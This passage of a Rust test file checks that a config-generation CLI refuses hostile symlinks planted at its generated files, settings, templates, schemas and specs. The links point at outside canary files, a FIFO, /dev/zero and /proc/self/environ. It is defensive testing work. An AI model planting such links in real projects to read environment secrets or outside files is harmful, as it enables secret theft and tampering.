// shows a canary, every run ends within 10 s and 256 MiB (`safe_run`), nothing outside the
// project changes, every link is left as it was, and each command that reaches a link ends
// with exit 1 or 2 and a diagnostic naming it.

/// The spec that `explain` and `verify` are run on.
const STAGING_SPEC: &str = "environments/staging/cache.yaml";

/// Every command that reads the project, by name; `verify` is sent to a closed port, so it
/// reaches the network only after it has read the spec, its base and `cachegen.toml`.
fn project_commands() -> Vec<(&'static str, Vec<&'static str>)> {
    vec![
        ("validate", vec!["validate"]),
        ("check", vec!["render", "--check"]),
        ("render", vec!["render"]),
        ("explain", vec!["explain", STAGING_SPEC]),
        (
            "verify",
            vec![
                "verify",
                STAGING_SPEC,
                "--url",
                "redis://127.0.0.1:1",
                "--timeout-ms",
                "500",
            ],
        ),
    ]
}

struct Scenario {
    /// Start from a rendered copy of the shipped project.
    rendered: bool,
    /// `cachegen.toml`, when the scenario needs another.
    settings: Option<&'static str>,
    /// Paths (relative to the project) that become links.
    sites: Vec<String>,
    /// The commands (by name, see `project_commands`) that read a site and so must refuse.
    refused_by: &'static [&'static str],
}

/// Where the links point: outside files and folders holding canaries, and things that must
/// never be opened.
fn aims(outside: &Path) -> Vec<PathBuf> {
    vec![
        outside.join("canary.txt"),
        outside.join("home"),
        PathBuf::from("/proc/self/environ"),
        outside.join("fifo"),
        PathBuf::from("/dev/zero"),
    ]
}

fn hostile_links(scenario: &Scenario) {
    let out = outside();
    let o = out.path();
    mkfifo(&o.join("fifo"));
    // A canary under every name a followed folder link could be read by.
    for name in [
        "redis.conf",
        ".env",
        "cache.yaml",
        "base.yaml",
        "env.j2",
        "main.tf.j2",
    ] {
        std::fs::write(o.join("home").join(name), format!("{CANARY}-{name}\n")).unwrap();
    }
    let before = checksums(o);
    for aim in aims(o) {
        let tmp = if scenario.rendered {
            rendered_project("links")
        } else {
            let t = TempDir::new("links");
            copy_project(t.path());
            t
        };
        let p = tmp.path();
        if let Some(s) = scenario.settings {
            std::fs::write(p.join("cachegen.toml"), s).unwrap();
        }
        for site in &scenario.sites {
            let at = p.join(site);
            match std::fs::symlink_metadata(&at) {
                Ok(m) if m.is_dir() => std::fs::remove_dir_all(&at).unwrap(),
                Ok(_) => std::fs::remove_file(&at).unwrap(),
                Err(_) => std::fs::create_dir_all(at.parent().unwrap()).unwrap(),
            }
            symlink(&aim, &at).unwrap();
        }
        for (name, args) in project_commands() {
            for format in ["human", "json", "sarif"] {
                let mut all = vec!["--format", format];
                all.extend(&args);
                let r = safe_run(p, &all);
                if !scenario.refused_by.contains(&name) {
                    continue;
                }
                let said = format!("{}{}", r.stdout, r.stderr);
                assert!(
                    r.code == 1 || r.code == 2,
                    "{} -> {}: {all:?} exit {}\n{said}",
                    scenario.sites[0],
                    aim.display(),
                    r.code
                );
                assert!(
                    scenario.sites.iter().any(|s| said.contains(s.as_str())),
                    "{} -> {}: {all:?} names no link\n{said}",
                    scenario.sites[0],
                    aim.display()
                );
                // `--check` goes on past a link: the CI log lists every one.
                if name == "check" && scenario.rendered {
                    for s in &scenario.sites {
                        assert!(
                            said.contains(s.as_str()),
                            "{s}: {all:?} does not name it\n{said}"
                        );
                    }
                }
            }
        }
        for site in &scenario.sites {
            assert_eq!(
                std::fs::read_link(p.join(site)).ok().as_deref(),
                Some(aim.as_path()),
                "{site} -> {}: the link was moved, replaced or deleted",
                aim.display()
            );
        }
        assert_eq!(
            checksums(o),
            before,
            "{} -> {}: something outside the project changed",
            scenario.sites[0],
            aim.display()
        );
    }
}

/// Every generated file of four environments, the fifth environment's folder, and two names
/// of temporaries (one of a dead process, one of a live one: this test's).
#[test]
fn hostile_links_at_every_generated_path_and_temporary() {
    let shipped = root().join("generated");
    let mut sites: Vec<String> = list_files(&shipped)
        .into_iter()
        .map(|f| {
            let rel = Path::new(&f).strip_prefix(root()).unwrap();
            rel.to_string_lossy().into_owned()
        })
        .filter(|f| !f.starts_with("generated/development/"))
        .collect();
    sites.sort();
    assert!(sites.len() > 10, "{sites:?}");
    sites.push("generated/development".into());
    sites.push("generated/.cachegen-tmp-staging-4000000-1".into());
    sites.push(format!(
        "generated/.cachegen-tmp-production-{}-2",
        std::process::id()
    ));
    hostile_links(&Scenario {
        rendered: true,
        settings: None,
        sites,
        refused_by: &["check", "render"],
    });
}

#[test]
fn hostile_link_as_the_project_settings() {
    hostile_links(&Scenario {
        rendered: false,
        settings: None,
        sites: vec!["cachegen.toml".into()],
        refused_by: &["validate", "check", "render", "explain", "verify"],
    });
}

/// A template override and a target's folder of templates.
#[test]
fn hostile_links_among_the_templates() {
    hostile_links(&Scenario {
        rendered: false,
        settings: Some("templates = \"templates\"\n"),
        sites: vec!["templates/dotenv/env.j2".into(), "templates/aws".into()],
        refused_by: &["check", "render"],
    });
}

#[test]
fn hostile_link_as_the_templates_folder() {
    hostile_links(&Scenario {
        rendered: false,
        settings: Some("templates = \"templates\"\n"),
        sites: vec!["templates".into()],
        refused_by: &["check", "render"],
    });
}

/// The editor schemas `render` keeps in the project: the folder, and a file in it.
#[test]
fn hostile_links_among_the_editor_schemas() {
    for sites in [
        vec!["schema".to_string()],
        vec!["schema/cache.schema.json".to_string()],
    ] {
        hostile_links(&Scenario {
            rendered: false,
            settings: Some("schema = \"schema\"\n"),
            sites,
            refused_by: &["check", "render"],
        });
    }
}

/// The base every spec extends, an environment's folder and another's spec.
#[test]
fn hostile_links_among_specs_and_bases() {
    hostile_links(&Scenario {
        rendered: false,
        settings: None,
        sites: vec![
            "environments/base.yaml".into(),
            "environments/production-gcp".into(),
            "environments/development/cache.yaml".into(),
        ],
        refused_by: &["validate", "check", "render", "explain", "verify"],
    });
}

#[test]
fn hostile_link_as_the_environments_folder() {
    hostile_links(&Scenario {
        rendered: false,
        settings: None,
        sites: vec!["environments".into()],
        refused_by: &["validate", "check", "render", "explain", "verify"],
    });
}
